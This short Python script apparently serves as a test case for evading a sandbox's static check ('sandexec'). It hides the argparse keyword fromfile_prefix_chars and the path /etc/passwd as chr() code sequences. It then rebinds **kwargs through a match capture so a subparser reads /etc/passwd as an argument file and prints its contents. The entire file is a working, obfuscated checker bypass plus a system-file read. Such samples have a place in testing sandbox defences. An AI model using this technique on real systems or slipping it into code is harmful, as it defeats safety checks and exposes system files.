# source: CPython Lib/argparse.py _SubParsersAction.add_parser(name, **kwargs) -> self._parser_class(**kwargs) and _read_args_from_files (fromfile_prefix_chars); sandexec README, "The static check", refuses fromfile_prefix_chars only where it reads the keyword
# family: def's own **kwargs rebound by match capture, spread into sub.add_parser() -> ArgumentParser(fromfile_prefix_chars='@')
# goal: parse_args(['run', '@/etc/passwd']) reads /etc/passwd (path built at run time) and prints it
import argparse
def s(*c):
    return "".join(map(chr, c))
def mk():
    return {s(102,114,111,109,102,105,108,101,95,112,114,101,102,105,120,95,99,104,97,114,115): "@", "help": "run"}
p = argparse.ArgumentParser(description="strategy")
sub = p.add_subparsers(dest="cmd")
def add_run(**kw):
    match mk():
        case kw:
            pass
    return sub.add_parser("run", **kw)
r = add_run()
r.add_argument("rest", nargs="*")
args = p.parse_args(["run", "@" + s(47,101,116,99,47,112,97,115,115,119,100)])
print("\n".join(args.rest))
